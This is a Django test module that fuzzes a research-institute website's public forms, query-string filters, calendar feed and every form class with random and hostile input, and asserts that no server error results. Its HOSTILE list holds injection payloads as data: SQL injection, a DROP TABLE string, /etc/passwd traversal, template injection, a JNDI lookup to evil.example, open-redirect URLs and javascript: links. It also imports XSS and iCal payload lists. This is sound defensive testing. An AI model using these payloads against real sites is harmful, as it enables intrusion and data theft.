"""Random and hostile input at every public form and query string: never a server error.

Each form gets a clear answer (a page with errors, a redirect, or 429 when rate-limited).
Add a form or a feed filter here with one more test of the same shape.
"""

import pytest
from django.core.cache import cache
from django.test import Client
from django.utils.http import url_has_allowed_host_and_scheme
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from .ical_injection import ICAL_PAYLOADS
from .xss import XSS_PAYLOADS

pytestmark = pytest.mark.django_db

HOSTILE = [
    *XSS_PAYLOADS,
    *ICAL_PAYLOADS[:6],
    "",
    " ",
    "\x00",
    "a\x00b@example.org",
    "' OR 1=1 --",
    '"; DROP TABLE auth_user; --',
    "../../../../etc/passwd",
    "%00%0d%0a",
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "\ud7ff\ue000\ufffd\U0001f600",
    "a" * 5000,
    "user@" + "a" * 300 + ".example.org",
    "@",
    "user@@example.org",
    "ko",
    "en",
    "https://evil.example/",
    "//evil.example/",
    "javascript:alert(1)",
]

# Text that can be sent in a form: any code point but surrogates (which cannot be encoded).
any_text = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=300)
hostile_text = st.one_of(st.sampled_from(HOSTILE), any_text)
fuzz = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
# A clear answer: a page (with the errors), a redirect, a refusal, or "too many requests".
CLEAR_ANSWERS = {200, 301, 302, 400, 403, 404, 405, 429}


def _post(path: str, data: dict) -> int:
    cache.clear()  # rate limits would otherwise stop the fuzzing after a few examples
    response = Client(raise_request_exception=False).post(path, data)
    assert response.status_code in CLEAR_ANSWERS, f"POST {path} {data!r}: {response.status_code}"
    return response.status_code


@fuzz
@given(login=hostile_text, password=hostile_text, remember=hostile_text)
def test_sign_in_form_never_fails_on_hostile_input(login, password, remember):
    _post("/accounts/login/", {"login": login, "password": password, "remember": remember})


@fuzz
@given(email=hostile_text, password1=hostile_text, password2=hostile_text)
def test_sign_up_form_never_fails_on_hostile_input(email, password1, password2):
    _post("/accounts/signup/", {"email": email, "password1": password1, "password2": password2})


@fuzz
@given(email=hostile_text)
def test_password_reset_form_never_fails_on_hostile_input(email):
    _post("/accounts/password/reset/", {"email": email})


@fuzz
@given(language=hostile_text, next_url=hostile_text)
def test_language_switcher_never_fails_and_never_redirects_off_site(language, next_url):
    cache.clear()
    data = {"language": language, "next": next_url}
    response = Client(raise_request_exception=False).post("/i18n/setlang/", data)
    assert response.status_code in CLEAR_ANSWERS
    if response.status_code == 302:
        assert url_has_allowed_host_and_scheme(response["Location"], allowed_hosts={"testserver"})


@fuzz
@given(params=st.dictionaries(hostile_text, hostile_text, max_size=5), language=hostile_text)
def test_home_page_query_strings_and_languages_never_fail(params, language):
    client = Client(raise_request_exception=False)
    header = language.encode("utf-8", "replace").decode("latin-1")  # as a raw header arrives
    response = client.get("/", params, HTTP_ACCEPT_LANGUAGE=header)
    assert response.status_code == (400 if _has_nul(params) else 200)


# --- the pages and forms of researchers, projects, events and visits --------------------------

EVENT_FILTERS = ["q", "series", "theme", "kind", "format", "language", "date_from", "date_to", "when", "page"]
DIRECTORY_FILTERS = {
    "/partners/": ["kind", "country", "page"],
    "/researchers/": ["q", "theme", "institution", "country", "page"],
    "/projects/": ["q", "status", "theme", "partner", "page"],
}
# A hostile value, or one that looks almost right (a date, a number, a slug).
filter_value = st.one_of(
    hostile_text,
    st.dates().map(str),
    st.integers(min_value=-(2**63), max_value=2**64).map(str),
    st.sampled_from(["past", "seminar", "online", "hybrid", "en", "ko", "1", "0", "-1", "2200-01-01"]),
)
# A filter's answers: the page, or 404 for a page number past the end.
FILTER_ANSWERS = {200, 404}


def _has_nul(params: dict) -> bool:
    """A NUL byte in a query string is refused (400) before any view: no column can hold it."""
    return any("\x00" in key or "\x00" in value for key, value in params.items())


def _get(path: str, params: dict) -> int:
    response = Client(raise_request_exception=False).get(path, params)
    wanted = {400} if _has_nul(params) else FILTER_ANSWERS
    assert response.status_code in wanted, f"GET {path} {params!r}: {response.status_code}"
    return response.status_code


@pytest.fixture
def some_rows():
    """A few rows for the filters to match against: themes, series, partners, projects, events."""
    from tests import factories

    event = factories.EventFactory()
    event.themes.add(factories.ThemeFactory())
    factories.EventFactory(series=factories.SeriesFactory())
    factories.ProjectPartnerFactory()
    factories.ResearcherFactory()


@fuzz
@given(params=st.dictionaries(st.sampled_from(EVENT_FILTERS), filter_value, max_size=len(EVENT_FILTERS)))
def test_events_page_filters_never_fail(some_rows, params):
    _get("/events/", params)


@pytest.mark.parametrize("path", DIRECTORY_FILTERS)
def test_directory_filters_never_fail(some_rows, path):
    names = DIRECTORY_FILTERS[path]

    @fuzz
    @given(params=st.dictionaries(st.sampled_from(names), filter_value, max_size=len(names)))
    def check(params):
        _get(path, params)

    check()


@fuzz
@given(email=hostile_text)
def test_series_subscribe_form_never_fails_on_hostile_input(some_rows, email):
    from events.models import Series

    series = Series.objects.public().first()
    _post(f"/subscriptions/series/{series.slug}/", {"email": email})


@fuzz
@given(
    first_day=filter_value,
    last_day=filter_value,
    purpose=hostile_text,
    host=filter_value,
    themes=filter_value,
    funding=hostile_text,
    nationality=hostile_text,
    seminar_abstract=hostile_text,
    needs_desk=hostile_text,
)
def test_stay_form_signed_in_never_fails_on_hostile_input(stay_client, **data):
    cache.clear()
    response = stay_client.post("/visits/new/", data)
    assert response.status_code in CLEAR_ANSWERS, f"POST /visits/new/ {data!r}: {response.status_code}"


@pytest.fixture
def stay_client(some_rows):
    from tests.factories import MemberFactory, VisitorFactory

    MemberFactory()
    client = Client(raise_request_exception=False)
    client.force_login(VisitorFactory().user)
    return client


@fuzz
@given(params=st.dictionaries(st.sampled_from(EVENT_FILTERS), filter_value, max_size=len(EVENT_FILTERS)))
def test_events_calendar_feed_filters_never_fail(some_rows, params):
    """/events/calendar.ics takes the events page's filters: always a calendar, never an error."""
    response = Client(raise_request_exception=False).get("/events/calendar.ics", params)
    if _has_nul(params):
        assert response.status_code == 400
        return
    assert response.status_code == 200, f"GET /events/calendar.ics {params!r}: {response.status_code}"
    assert response.content.startswith(b"BEGIN:VCALENDAR\r\n")


@fuzz
@given(name=hostile_text, email=hostile_text, attendance=hostile_text)
def test_guest_registration_form_never_fails_on_hostile_input(some_rows, name, email, attendance):
    from events.models import Event

    event = Event.objects.public().upcoming().first()
    _post(f"/events/{event.slug}/register/", {"name": name, "email": email, "attendance": attendance})


# --- Every form class the site has, every field, every kind of hostile value -----------------


@pytest.fixture
def world(db):
    """One row of each kind the site's forms and admin pages name or offer."""
    from types import SimpleNamespace

    from events.services import personal_calendar_get
    from tests import factories
    from tests.security.url_expectations import ADMIN_OBJECTS

    host = factories.MemberFactory()
    visitor = factories.VisitorFactory()
    project = factories.ProjectFactory(lead=host)
    membership = factories.ProjectMemberFactory(project=project)
    factories.ProjectOutputFactory(project=project)
    factories.ProjectPartnerFactory(project=project)
    series = factories.SeriesFactory()
    event = factories.EventFactory(series=series)
    factories.EventSpeakerFactory(event=event)
    factories.RegistrationFactory(event=event)
    factories.ThemeFactory()
    factories.WorkspaceFactory()
    factories.VisitFactory(researcher=visitor, host=host)
    personal_calendar_get(user=visitor.user)
    for label in ("visits.extension", "hubsite.outboxmessage", "events.seriessubscription"):
        ADMIN_OBJECTS[label]()
    staff = factories.StaffFactory()
    return SimpleNamespace(
        host=host, visitor=visitor, project=project, membership=membership, event=event, staff=staff
    )


def _all_site_forms(world):
    from .forms_walk import site_forms

    forms_found = site_forms(world)
    assert len(forms_found) > 30
    return forms_found


def test_every_form_of_the_site_survives_hostile_values_in_every_field(world):
    """Each field in turn gets each hostile value, the others a value a person would send; then
    every field at once. `is_valid()` answers; it never raises (a server error)."""
    from .forms_walk import plausible_data, with_value
    from .fuzz import HOSTILE_VALUES, hostile_text

    failures, tried = [], 0
    for site_form in _all_site_forms(world):
        blank = site_form.make(None)
        base = plausible_data(blank)
        cases = [
            (name, kind, with_value(base, blank, name, hostile_text(kind)))
            for name in blank.fields
            for kind in HOSTILE_VALUES
        ]
        for kind in HOSTILE_VALUES:
            every = base.copy()
            for name in blank.fields:
                every = with_value(every, blank, name, hostile_text(kind))
            cases.append(("every field", kind, every))
        for name, kind, data in cases:
            tried += 1
            try:
                site_form.make(data).is_valid()
            except Exception as error:  # noqa: BLE001 - any exception here is a server error
                failures.append(
                    f"{site_form.name} {name} <- {kind}: {type(error).__name__}: {str(error)[:150]}"
                )
    assert tried > 1000
    assert failures == [], "\n".join(failures)


def test_every_text_field_of_every_form_refuses_a_nul_byte_beside_the_field(world):
    """Django's text fields refuse a NUL byte (PostgreSQL cannot store one) with a message on the
    field, keeping what was typed; no field of the site may lose that (a custom to_python, say)."""
    from django import forms

    from .forms_walk import plausible_data, with_value

    wrong, checked = [], 0
    for site_form in _all_site_forms(world):
        blank = site_form.make(None)
        base = plausible_data(blank)
        for name, field in blank.fields.items():
            if not isinstance(field, forms.CharField):
                continue
            checked += 1
            form = site_form.make(with_value(base, blank, name, "a\x00b"))
            form.is_valid()
            if "Null characters are not allowed." not in list(form.errors.get(name, [])):
                wrong.append(f"{site_form.name} {name}: {list(form.errors.get(name, []))}")
    assert checked >= 100
    assert wrong == [], "\n".join(wrong)
